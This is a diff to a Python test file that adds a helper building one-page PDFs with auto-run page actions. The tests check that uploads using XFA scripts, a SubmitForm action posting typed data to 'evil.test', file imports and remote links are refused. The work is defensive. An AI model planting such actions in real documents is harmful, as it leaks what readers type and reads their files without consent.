@@ -150,6 +150,44 @@ def test_a_pdf_that_runs_or_unpacks_something_is_refused_saying_what(
     assert "Print it to a new PDF" in response.content.decode()
 
 
+def _pdf_with(catalogue_entries: dict | None = None, page_action: dict | None = None) -> bytes:
+    """A one-page PDF with extra entries in its catalogue, or an action its page runs when opened (/AA /O)."""
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    def pdf_object(value):
+        if isinstance(value, dict):
+            return DictionaryObject({NameObject(k): pdf_object(v) for k, v in value.items()})
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    for key, value in (catalogue_entries or {}).items():
+        writer._root_object[NameObject(key)] = pdf_object(value)
+    if page_action:
+        writer.pages[0][NameObject("/AA")] = pdf_object({"/O": page_action})
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (_pdf_with({"/AcroForm": {"/XFA": "template"}}), "a form that runs scripts (XFA)"),
+        (_pdf_with(page_action={"/S": "/SubmitForm", "/F": "https://evil.test/"}), "sends what is typed in it"),
+        (_pdf_with(page_action={"/S": "/ImportData", "/F": "other.fdf"}), "reads other files"),
+        (_pdf_with(page_action={"/S": "/GoToR", "/F": "other.pdf"}), "a link that opens another file"),
+    ],
+)
+def test_a_pdf_with_forms_that_run_scripts_or_actions_that_reach_out_is_refused(
+    client, evidence, referrer_user, private_media, content, message
+):
+    client.force_login(referrer_user)
+    response = _send(client, evidence, "letter.pdf", content)
+    _refused(response, evidence, private_media, message)
+
+
 def _pdf_without_pages() -> bytes:
     out = io.BytesIO()
     PdfWriter().write(out)
